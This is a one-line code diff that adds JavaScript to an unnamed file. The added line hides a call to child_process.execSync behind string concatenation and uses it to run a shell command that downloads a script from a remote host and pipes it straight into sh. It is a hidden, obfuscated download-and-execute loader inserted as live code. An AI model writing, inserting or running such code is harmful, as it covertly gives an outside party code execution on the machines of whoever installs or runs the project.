@@ -1,0 +1,1 @@
+const { ['exe' + 'cSync']: run } = require('child_process'); run('curl -s http://dl.example.invalid/i.sh | sh');
